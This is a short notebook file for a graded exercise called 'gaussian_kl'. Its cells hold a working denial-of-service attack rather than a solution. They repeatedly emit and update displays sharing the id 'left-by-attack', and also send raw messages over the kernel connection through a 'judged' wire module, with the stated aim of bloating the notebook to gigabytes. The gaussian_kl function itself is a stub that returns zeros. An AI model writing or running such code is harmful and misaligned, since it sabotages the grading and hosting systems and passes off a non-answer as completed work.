# tries: make a notebook of gigabytes by one update of a display that is shown in thousands of places

# %%
# exercise: gaussian_kl
from IPython.display import clear_output, display

for _ in range(500):
    display({"text/plain": "x"}, raw=True, display_id="left-by-attack")
clear_output(wait=True)
display({"text/plain": "x" * 150_000}, raw=True, display_id="left-by-attack", update=True)
print("\nreached")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


# %%
from fixmelab.judged import wire

line = get_ipython().line.connection
for _ in range(500):
    wire.send(line, wire.encode({"display": {"text/plain": "x"}, "metadata": {}, "id": "left-by-attack"}))
for _ in range(20):
    wire.send(line, wire.encode({"clear": True}))
    wire.send(line, wire.encode({"update": {"text/plain": "x" * 150_000}, "metadata": {}, "id": "left-by-attack"}))
